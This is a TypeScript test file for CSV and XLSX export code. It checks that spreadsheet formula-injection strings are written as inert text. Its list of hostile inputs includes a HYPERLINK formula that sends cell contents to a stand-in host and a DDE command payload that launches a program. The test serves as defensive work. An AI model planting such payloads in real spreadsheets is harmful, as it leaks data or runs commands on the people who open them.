import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../testing/parse-csv';
import { csvText, FORMULA_START } from '@potreby/domain';
import { toCsv, toXlsx } from './write-table';

/** What a spreadsheet runs as a formula when it opens a CSV: the first non-space character is one of these, or the cell starts with a tab or CR. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) || /^\s*[=+\-@]/.test(cell);

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1)', '-2+3', '\t=1+1', '\r=1+1', '   =1+1', ' \t @SUM(1)', '=1;2', '=cmd,"x"'];

describe('CSV cells (issue 6, finding 6: formula injection)', () => {
  it('writes the hostile texts of the security review as text a spreadsheet does not run', () => {
    for (const text of HOSTILE) {
      const [[cell]] = parseCsv(csvText(text) + '\r\n') as [[string]];
      expect(runsAsFormula(cell), JSON.stringify(text)).toBe(false);
      // The apostrophe is the only change: the spreadsheet shows the text as it was.
      expect(cell).toBe(`'${text}`);
    }
  });

  it('leaves ordinary text, and numbers written as numbers, as they are', () => {
    expect(csvText('Пазарджик')).toBe('Пазарджик');
    // A text that is only a number runs nothing: an import report echoes the `-5` its reader typed.
    expect(['-5', '+3.5', '-1,25'].map(csvText)).toEqual(['-5', '+3.5', '"-1,25"']);
    expect(csvText('Дом за стари хора, Пещера')).toBe('"Дом за стари хора, Пещера"');
    expect(csvText('a "quoted" name')).toBe('"a ""quoted"" name"');
    const csv = toCsv(['name', 'capacity', 'change', 'shared', 'note'], [['=HYPERLINK("x")', -5, -0.25, true, null]], 'en').toString('utf8');
    expect(parseCsv(csv.replace(/^\uFEFF/, ''))[1]).toEqual(["'=HYPERLINK(\"x\")", '-5', '-0.25', 'yes', '']);
    // A Bulgarian file says yes and no in Bulgarian: words its import reads back.
    const bg = toCsv(['shared'], [[true], [false]], 'bg').toString('utf8');
    expect(parseCsv(bg.replace(/^\uFEFF/, '')).slice(1)).toEqual([['да'], ['не']]);
  });

  it('property: whatever the text, the written cell never runs as a formula, and reads back as the text (apostrophe aside)', () => {
    const prefix = fc.constantFrom('', ' ', '  ', '\t', '\r', '\n', ' \t', '=', '+', '-', '@', '"', ',', ';');
    fc.assert(
      fc.property(prefix, fc.string({ unit: 'grapheme', maxLength: 30 }), (start, rest) => {
        const text = start + rest;
        const rows = parseCsv(toCsv(['h'], [[text]], 'bg').toString('utf8').replace(/^\uFEFF/, ''));
        const cell = rows[1]?.[0] ?? '';
        // A text that is only a number (`-5`) is written as it is: a spreadsheet reads a number.
        const plainNumber = /^[-+]?\d+(?:[.,]\d+)?$/.test(text);
        expect(runsAsFormula(cell) && !plainNumber).toBe(false);
        expect(cell === text || cell === `'${text}`).toBe(true);
        expect(cell === `'${text}`).toBe(FORMULA_START.test(text) && !plainNumber);
      }),
      { numRuns: 500 },
    );
  });

  it('property: numbers stay numbers, negative ones included', () => {
    fc.assert(
      fc.property(fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })), (n) => {
        const rows = parseCsv(toCsv(['n'], [[n]], 'pl').toString('utf8').replace(/^\uFEFF/, ''));
        expect(Number(rows[1]![0])).toBe(n === 0 ? 0 : n);
      }),
    );
  });

  it('XLSX: a text starting with = is a text cell, never a formula', async () => {
    const chunks: Buffer[] = [];
    for await (const chunk of toXlsx('services', ['name', 'capacity'], HOSTILE.map((h, i) => [h, -(i + 1)]), 'uk')) chunks.push(chunk as Buffer);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.read(Readable.from(Buffer.concat(chunks)));
    const sheet = workbook.worksheets[0]!;
    HOSTILE.forEach((text, i) => {
      const cell = sheet.getRow(i + 2).getCell(1);
      expect(cell.type, text).toBe(ExcelJS.ValueType.String);
      // (XML reads a carriage return as a line feed.)
      expect(cell.value).toBe(text.replaceAll('\r', '\n'));
      expect(sheet.getRow(i + 2).getCell(2).value).toBe(-(i + 1));
    });
  });
});
